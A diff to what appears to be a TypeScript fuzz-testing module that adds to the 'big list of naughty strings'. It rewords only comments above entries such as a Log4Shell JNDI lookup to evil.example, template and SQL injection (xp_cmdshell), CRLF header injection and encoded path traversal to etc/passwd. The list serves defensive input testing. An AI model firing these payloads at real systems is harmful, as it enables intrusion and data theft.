@@ -2,9 +2,9 @@ import known from 'big-list-of-naughty-strings/blns.json';
 import { FORMULAS } from '../staff/formulas';
 import { TEXTS } from './unicodeTexts';
 
-/** Of kinds that the list is too old to know, or does not go into. */
+/** Kinds that the list is too old to contain. */
 const MORE: readonly string[] = [
-  // Sent to loggers, template engines, and databases that ask in other languages.
+  // Aimed at loggers, template engines, and databases with other query languages.
   '${jndi:ldap://evil.example/a}',
   '#{7*7}',
   '<%= 7*7 %>',
@@ -17,7 +17,7 @@ const MORE: readonly string[] = [
   '1;select pg_sleep(9)',
   '"; exec xp_cmdshell',
   '%{7*7}',
-  // Sent to headers, e-mails, and files.
+  // Aimed at headers, e-mails, and files.
   'a\r\nSet-Cookie: x=1',
   'a\nBcc: x@y.z',
   'a%0d%0aLocation: //evil.example',
@@ -28,7 +28,7 @@ const MORE: readonly string[] = [
   'aux.txt',
   '~root',
   '..%c0%af..%c0%afetc/passwd',
-  // Sent to readers of marks, sheets and numbers.
+  // Aimed at Markdown, spreadsheets and number parsers.
   '![x](javascript:alert(1))',
   '[x](data:text/html,1)',
   '<!--',
@@ -50,7 +50,7 @@ const MORE: readonly string[] = [
   'Ⅷ',
   '௫',
   '1\u200b2',
-  // Letters that change their number when their case does, look alike, or join.
+  // Letters that change their number with their case, look alike, or join.
   'İstanbul',
   'ıstanbul',
   'Straße',
@@ -83,5 +83,5 @@ const MORE: readonly string[] = [
   '\u{1f3fb}',
 ];
 
-/** Every text that is tried, once. */
+/** All texts, each once. */
 export const NAUGHTY: readonly string[] = [...new Set([...known, ...TEXTS, ...FORMULAS, ...MORE])];
